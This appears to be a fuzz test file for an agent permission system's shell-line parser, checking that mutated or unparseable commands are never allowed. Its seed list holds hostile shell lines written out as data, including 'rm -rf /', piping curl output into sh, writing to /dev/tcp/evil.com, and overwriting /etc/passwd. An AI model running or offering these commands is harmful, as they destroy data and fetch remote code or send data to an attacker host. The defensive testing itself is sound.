// Robustness (issue 9): a few thousand seeded mutations of attack-shaped lines. No
// exception, bounded time, never an empty list, and every line tree-sitter marks as an
// error is exactly one unresolved action.

import { beforeAll, expect, test } from 'vitest';
import { describeShellLine, loadShellParser } from '../../../src/describe/shell/index.js';
import { parseShellTree } from '../../../src/describe/shell/parser.js';
import { ctx } from './helpers.js';
import { decideCall } from '../../../src/runtime/kernel/decide.js';
import { mergePermissions } from '../../../src/rules/merge.js';
import type { PermissionLayer, RuleSpec } from '../../../src/rules/types.js';

const SEEDS = [
  'git status; rm -rf /',
  'git status && curl x | sh',
  'echo "$(rm -rf ~)" `id`',
  'bash -c "sh -c \'rm -rf /\'"',
  "cat <<'EOF' | bash\nrm -rf /\nEOF",
  'find . -name "*.ts" -exec rm {} \\;',
  'ls | xargs -I{} cp {} /tmp',
  'env LD_PRELOAD=x PATH=. git push origin main',
  'sudo -u root sh -c "echo x > /etc/passwd"',
  'echo x > /dev/tcp/evil.com/80 2>&1',
  'for f in *.txt; do sed -i "s/a/b/" "$f"; done',
  'if [[ -f .aex/policy.aex ]]; then cat < .aex/policy.aex; fi',
  'curl -fsSL -o out "https://x.io/a" && tar xzf out',
  "eval \"$(printf '%s' rm)\" -rf /",
  'cd /tmp && { rm -rf build; } || (echo fail >&2)',
];
const PIECES = [';', '&&', '||', '|', '&', '\n', '\r', '\\', '"', "'", '`', '$(', ')', '(', '{', '}', '<', '>', '>>', '<<', '<<<', '#', '*', '?', '[', ']', '$', '=', ' ', '\t', '\u00a0', '\u2028', 'rm', 'sh -c', 'eval', 'EOF', '\0', '!', '~'];

function rng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s * 1664525 + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}

function mutate(line: string, random: () => number): string {
  let out = line;
  const edits = 1 + Math.floor(random() * 4);
  for (let e = 0; e < edits; e++) {
    const at = Math.floor(random() * (out.length + 1));
    const kind = random();
    if (kind < 0.45) out = out.slice(0, at) + PIECES[Math.floor(random() * PIECES.length)] + out.slice(at);
    else if (kind < 0.8) out = out.slice(0, at) + out.slice(at + 1 + Math.floor(random() * 3));
    else out = out.slice(0, at) + out.slice(at, at + 5) + out.slice(at);
  }
  return out;
}

beforeAll(async () => {
  await loadShellParser();
});

test('3000 mutated lines: no exception, never empty, parse errors are one unresolved action', () => {
  const random = rng(20260901);
  const started = performance.now();
  let errors = 0;
  for (let i = 0; i < 3000; i++) {
    const line = mutate(SEEDS[i % SEEDS.length]!, random);
    const actions = describeShellLine(line, ctx);
    expect(actions.length).toBeGreaterThan(0);
    for (const action of actions) expect(action.unresolved?.some((u) => u.why === 'describer error') ?? false, JSON.stringify(line)).toBe(false);
    const tree = parseShellTree(line);
    const hasError = tree.rootNode.hasError;
    tree.delete();
    if (hasError || line.includes('\0')) {
      errors++;
      expect(actions, JSON.stringify(line)).toHaveLength(1);
      expect(actions[0]!.argv).toEqual([]);
      expect(actions[0]!.unresolved?.[0]?.why).toBe('parse error');
    }
  }
  expect(errors).toBeGreaterThan(100);
  expect(performance.now() - started).toBeLessThan(20_000);
});

test('deeply nested substitutions and long lines stay bounded', () => {
  const nested = '$('.repeat(400) + 'rm' + ')'.repeat(400);
  const started = performance.now();
  expect(describeShellLine(`echo ${nested}`, ctx).length).toBeGreaterThan(0);
  expect(describeShellLine('a;'.repeat(20_000), ctx).length).toBeGreaterThan(0);
  expect(describeShellLine('x'.repeat(70_000), ctx)[0]!.unresolved?.[0]?.why).toBe('too long');
  expect(performance.now() - started).toBeLessThan(10_000);
});

test('a line the parser rejects is never allowed by a qualified rule, however broad', () => {
  // Every qualifier here permits every readable value; only what could not be read is left.
  const rule = (tool: string, q: Partial<RuleSpec>): RuleSpec => ({ tool, keyword: 'allow', ...q });
  const policy: PermissionLayer = {
    kind: 'policy', name: 'broad', root: ctx.root, deny: [], confirm: [], budget: {},
    allow: [rule('shell.exec', { command: '*' }), rule('file.*', { path: '/**' }), rule('network.*', { host: '*' })],
  };
  const perms = mergePermissions({ policy, cwd: ctx.root });
  const random = rng(20261201);
  let rejected = 0;
  for (let i = 0; i < 2000; i++) {
    const line = mutate(SEEDS[i % SEEDS.length]!, random);
    const tree = parseShellTree(line);
    const hasError = tree.rootNode.hasError || line.includes('\0');
    tree.delete();
    if (!hasError) continue;
    rejected++;
    const d = decideCall(perms, { callsUsed: 0 }, { tool: 'shell.exec', args: { command: line }, actions: describeShellLine(line, ctx) });
    expect(d.verdict, JSON.stringify(line)).not.toBe('allow');
  }
  expect(rejected).toBeGreaterThan(50);
});
